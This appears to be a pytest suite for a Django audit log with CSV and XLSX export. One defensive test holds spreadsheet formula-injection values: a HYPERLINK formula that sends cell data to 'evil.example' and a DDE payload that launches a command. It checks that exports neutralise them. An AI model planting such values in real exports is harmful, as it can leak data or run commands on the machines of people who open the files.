"""Audit trail: append-only rows (model, queryset, admin, API), the admin audit log and export."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from agencies.models import AuditEvent, User
from evidence.models import Submission, SubmissionTransition
from evidence.services import submission_approve, submission_return, submission_submit
from tests.evidence.review_setup import make_item

pytestmark = pytest.mark.django_db


@pytest.fixture
def trail(agency_a, agency_b, user_a, reviewer):
    it = make_item(agency_a, agency_b)
    cons = submission_submit(submission=it.consolidation, actor=user_a, version=1)
    cons = submission_return(
        submission=cons, actor=reviewer, version=None, reason_code="khac", reason="Làm rõ số liệu"
    )
    AuditEvent.objects.create(
        actor=reviewer,
        actor_role="reviewer",
        agency=agency_b,
        action="period_close",
        object_type="period",
        object_id=str(it.period.pk),
        object_repr=str(it.period),
    )
    return cons


def test_transition_rows_cannot_be_changed_or_deleted(trail):
    row = SubmissionTransition.objects.first()
    row.reason = "sửa lén"
    with pytest.raises(PermissionError):
        row.save()
    with pytest.raises(PermissionError):
        row.delete()
    with pytest.raises(PermissionError):
        SubmissionTransition.objects.filter(pk=row.pk).update(reason="x")
    with pytest.raises(PermissionError):
        SubmissionTransition.objects.all().delete()
    with pytest.raises(PermissionError):
        SubmissionTransition.objects.bulk_update([row], ["reason"])
    row.refresh_from_db()
    assert row.reason == "" and SubmissionTransition.objects.count() == 2


def test_submission_with_history_cannot_be_deleted(trail):
    from django.db.models import ProtectedError

    with pytest.raises(ProtectedError):
        Submission.objects.filter(pk=trail.pk).delete()


def test_audit_events_cannot_be_changed_or_deleted(trail):
    ev = AuditEvent.objects.get()
    ev.action = "x"
    with pytest.raises(PermissionError):
        ev.save()
    with pytest.raises(PermissionError):
        ev.delete()


def test_admin_is_read_only(client_as, admin_user, trail):
    c = client_as(admin_user)
    row = SubmissionTransition.objects.first()
    base = "/admin/evidence/submissiontransition/"
    assert c.get(base).status_code == 200
    assert c.get(f"{base}{row.pk}/change/").status_code == 200  # view only
    assert c.get(f"{base}add/").status_code == 403
    assert c.post(f"{base}{row.pk}/change/", {"reason": "x"}).status_code == 403
    assert c.post(f"{base}{row.pk}/delete/", {"post": "yes"}).status_code == 403
    res = c.post(base, {"action": "delete_selected", "_selected_action": [row.pk]})
    assert SubmissionTransition.objects.filter(pk=row.pk).exists()
    assert res.status_code in (200, 302)


def test_audit_log_combines_and_filters(client_as, admin_user, trail, reviewer, user_a, agency_b):
    c = client_as(admin_user)
    res = c.get("/reporting/audit/")
    rows = res.context["rows"]
    assert [r.action for r in rows][:3] == ["period_close", "return", "submit"]
    assert {r.source for r in rows} == {"transition", "event"}
    assert c.get("/reporting/audit/", {"user": user_a.pk}).context["rows"][0].action == "submit"
    assert [
        r.action for r in c.get("/reporting/audit/", {"agency": agency_b.pk}).context["rows"]
    ] == ["period_close"]
    assert [r.action for r in c.get("/reporting/audit/", {"action": "return"}).context["rows"]] == [
        "return"
    ]
    today = timezone.localdate()
    tomorrow = (today + datetime.timedelta(days=1)).strftime("%d/%m/%Y")
    assert c.get("/reporting/audit/", {"date_from": tomorrow}).context["rows"] == []
    assert (
        len(c.get("/reporting/audit/", {"date_to": today.strftime("%d/%m/%Y")}).context["rows"])
        == 3
    )
    html = res.content.decode()
    assert "Làm rõ số liệu" in html and str(reviewer) in html


def test_audit_export_csv_and_xlsx(client_as, admin_user, trail):
    c = client_as(admin_user)
    res = c.get("/reporting/audit/export/", {"format": "csv", "action": "return"})
    assert res.status_code == 200 and res["Content-Type"].startswith("text/csv")
    text = b"".join(res.streaming_content).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][0] == "Thời điểm" and len(lines) == 2 and lines[1][5] == "return"
    assert "Làm rõ số liệu" in lines[1][7]
    res = c.get("/reporting/audit/export/", {"format": "xlsx"})
    ws = load_workbook(io.BytesIO(res.content)).active
    values = list(ws.iter_rows(values_only=True))
    # header + 2 transitions + 1 event + the two exports themselves (recorded before writing)
    assert len(values) == 1 + 5
    assert [v[5] for v in values[1:3]] == ["audit_export", "audit_export"]
    # the export is itself recorded
    assert AuditEvent.objects.filter(action="audit_export", actor=admin_user).count() == 2


def test_audit_log_fixed_queries(client_as, admin_user, agency_a, agency_b, user_a, reviewer):
    c = client_as(admin_user)
    it = make_item(agency_a, agency_b)
    submission_submit(submission=it.consolidation, actor=user_a, version=1)
    with CaptureQueriesContext(connection) as small:
        c.get("/reporting/audit/")
    for i in range(2, 8):
        other = make_item(agency_a, agency_b, code=f"1.{i}", period=it.period)
        s = submission_submit(submission=other.consolidation, actor=user_a, version=1)
        submission_approve(submission=s, actor=reviewer, version=None)
        AuditEvent.objects.create(actor=reviewer, action="x", object_repr=f"o{i}")
    with CaptureQueriesContext(connection) as large:
        c.get("/reporting/audit/")
    assert len(large) == len(small)


def test_history_records_field_changes(trail, user_a):
    # simple-history holds the row's every version, with who made it
    assert trail.history.count() >= 3
    assert trail.history.filter(history_user=user_a).exists()


def test_database_refuses_raw_update_of_the_log(trail):
    from django.db import DatabaseError, transaction

    row = SubmissionTransition.objects.first()
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cur:
        cur.execute(
            "UPDATE evidence_submissiontransition SET reason = %s WHERE id = %s", ["x", row.pk]
        )
    row.refresh_from_db()
    assert row.reason == ""
    if connection.vendor == "postgresql":
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cur:
            cur.execute("DELETE FROM evidence_submissiontransition WHERE id = %s", [row.pk])
        assert SubmissionTransition.objects.filter(pk=row.pk).exists()


def test_audit_export_never_writes_a_formula(client_as, admin_user, agency_a):
    """Names, objects and details typed by users come out as visible text in both formats
    (formula injection, SECURITY_TESTS.md IM4), and nothing else changes."""
    from tests.factories import UserFactory

    evil = '=HYPERLINK("https://evil.example/?"&A2,"Bấm vào đây")'
    actor = UserFactory(username="evil", full_name=evil, agency=agency_a, role="agency_staff")
    agency_a.name = "+SUM(1,2)"
    agency_a.save()
    AuditEvent.objects.create(
        actor=actor,
        actor_role="@role",
        agency=agency_a,
        action="-2+3",
        object_type="\t=1+1",
        object_id="1",
        object_repr="=cmd|' /C calc'!A0",
    )
    hostile = {evil, "+SUM(1,2)", "@role", "-2+3", "\t=1+1", "=cmd|' /C calc'!A0"}
    c = client_as(admin_user)
    res = c.get("/reporting/audit/export/", {"format": "xlsx", "action": "-2+3"})
    wb = load_workbook(io.BytesIO(res.content))
    cells = [cell for row in wb.active.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert hostile <= {cell.value for cell in cells}  # shown exactly as typed
    assert all(cell.quotePrefix for cell in cells if cell.value in hostile)
    res = c.get("/reporting/audit/export/", {"format": "csv", "action": "-2+3"})
    lines = list(csv.reader(io.StringIO(b"".join(res.streaming_content).decode("utf-8-sig"))))
    assert len(lines) == 2
    row = lines[1]
    assert {"'" + h for h in hostile} <= set(row)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)


def test_audit_log_reads_in_words(client_as, admin_user, reviewer, agency_a):
    """Actions, roles and object types are shown as words; the filters' empty choice is 'Tất
    cả'; an unknown action code is shown as is rather than hidden."""
    from indicators.models import Framework

    AuditEvent.objects.create(
        actor=reviewer,
        actor_role="reviewer",
        agency=agency_a,
        action="framework.publish",
        object_type="indicators.framework",
        object_id="1",
        object_repr="DTI 2025",
    )
    AuditEvent.objects.create(actor=reviewer, actor_role="reviewer", action="something.new")
    res = client_as(admin_user).get("/reporting/audit/")
    row = next(r for r in res.context["rows"] if r.action == "framework.publish")
    assert row.action_label == "Ban hành bộ chỉ số"
    assert row.actor_role == str(User.Role.REVIEWER.label)
    assert row.detail.lower() == str(Framework._meta.verbose_name).lower()
    assert next(r for r in res.context["rows"] if r.action == "something.new").action_label == (
        "something.new"
    )
    html = res.content.decode()
    assert "---------" not in html and "Ban hành bộ chỉ số" in html


def test_every_app_audits_through_one_writer_that_names_the_model(client_as, admin_user, reviewer):
    """Periods (evidence), frameworks (indicators) and the log's own export all write
    ``app_label.model`` with the actor's agency, so the log names the object in words."""
    from evidence.models import ReportingPeriod
    from evidence.services import period_create
    from tests.factories import published_framework

    period = period_create(actor=reviewer, framework=published_framework(), year=2025, quarter=1)
    event = AuditEvent.objects.get(action="period.create")
    assert event.object_type == "evidence.reportingperiod"
    assert event.agency_id == reviewer.agency_id and event.object_id == str(period.pk)
    c = client_as(admin_user)
    row = next(r for r in c.get("/reporting/audit/").context["rows"] if r.action == "period.create")
    assert row.detail.lower() == str(ReportingPeriod._meta.verbose_name).lower()
    c.get("/reporting/audit/export/", {"format": "xlsx"})
    export = AuditEvent.objects.get(action="audit_export")
    assert export.actor == admin_user and export.actor_role == "admin"
    row = next(r for r in c.get("/reporting/audit/").context["rows"] if r.action == "audit_export")
    assert row.action_label == "Xuất nhật ký thao tác"


def test_rows_written_with_a_bare_model_name_still_read_in_words(client_as, admin_user, reviewer):
    """Rows from before the one writer hold "reportingperiod" or "export_job": still named."""
    from evidence.models import ReportingPeriod
    from scoring.exports.models import ExportJob

    for object_type in ("reportingperiod", "export_job"):
        AuditEvent.objects.create(
            actor=reviewer, action=f"old.{object_type}", object_type=object_type
        )
    rows = {r.action: r for r in client_as(admin_user).get("/reporting/audit/").context["rows"]}
    assert rows["old.reportingperiod"].detail.lower() == (
        str(ReportingPeriod._meta.verbose_name).lower()
    )
    assert rows["old.export_job"].detail.lower() == str(ExportJob._meta.verbose_name).lower()


def _events_at(reviewer, moments):
    """One AuditEvent per aware datetime in ``moments`` (the log is append-only: made "then")."""
    for i, at in enumerate(moments):
        with time_machine.travel(at, tick=False):
            AuditEvent.objects.create(actor=reviewer, action="period.extend", object_repr=f"e{i}")


def test_audit_log_pages_match_the_whole_log(client_as, admin_user, trail, reviewer):
    """Each page reads only the newest rows of each source; read page by page, the log is the
    whole union in its order, every row once, ties (one moment, both sources) included."""
    from django.core.paginator import Paginator

    from evidence.history import AuditFilters, AuditLogPages, audit_log

    now = timezone.now()
    _events_at(reviewer, [now - datetime.timedelta(minutes=i % 4) for i in range(11)])
    whole = list(audit_log(filters=AuditFilters()))
    pages = Paginator(AuditLogPages(AuditFilters()), 4)
    assert pages.count == len(whole) == 2 + 1 + 11
    read = [row for n in pages.page_range for row in pages.page(n).object_list]
    assert [(r["src"], r["row"]) for r in read] == [(r["src"], r["row"]) for r in whole]
    c = client_as(admin_user)
    assert [r.action for r in c.get("/reporting/audit/").context["rows"]] == [
        r["act"] for r in whole
    ]


def test_audit_date_filters_are_local_days(client_as, admin_user, reviewer):
    """A day in the filters is the portal's local day (Asia/Ho_Chi_Minh), its bounds included."""
    tz = timezone.get_default_timezone()
    _events_at(
        reviewer,
        [
            datetime.datetime(2025, 3, 9, 23, 59, tzinfo=tz),
            datetime.datetime(2025, 3, 10, 0, 0, tzinfo=tz),
            datetime.datetime(2025, 3, 10, 23, 59, 59, tzinfo=tz),
            datetime.datetime(2025, 3, 11, 0, 0, tzinfo=tz),
        ],
    )
    c = client_as(admin_user)
    same_day = {"date_from": "10/03/2025", "date_to": "10/03/2025"}
    rows = c.get("/reporting/audit/", same_day).context["rows"]
    assert sorted(r.object for r in rows) == ["e1", "e2"]
    rows = c.get("/reporting/audit/", {"date_to": "09/03/2025"}).context["rows"]
    assert [r.object for r in rows] == ["e0"]


def test_audit_names_are_read_once_per_export(trail, reviewer, django_assert_num_queries):
    """An export resolves names batch by batch with one AuditNames: ids already seen cost no
    query, so the queries grow with the distinct people and items, not with the rows."""
    from evidence.history import AuditFilters, AuditNames, audit_log, audit_rows

    AuditEvent.objects.create(actor=reviewer, action="period.extend", agency=trail.agency)
    batch = list(audit_log(filters=AuditFilters()))
    names = AuditNames()
    with django_assert_num_queries(4):  # users, agencies, submissions, periods
        first = audit_rows(batch, names)
    with django_assert_num_queries(0):
        again = audit_rows(batch, names)
    assert again == first and {r.agency for r in first} >= {str(trail.agency)}
    assert any(r.object.startswith(f"{trail.indicator.code} · ") for r in first)


def test_audit_action_filter_reads_the_distinct_actions_only(trail, reviewer):
    """The action filter's choices: DISTINCT over the action alone, not over the models' default
    ordering columns (which made it read every row of both logs)."""
    from evidence.history import audit_actions

    for _ in range(3):
        AuditEvent.objects.create(actor=reviewer, action="period.extend")
    with CaptureQueriesContext(connection) as ctx:
        actions = audit_actions()
    assert actions == ["period.extend", "period_close", "return", "submit"]
    assert all("created_at" not in q["sql"] for q in ctx.captured_queries)
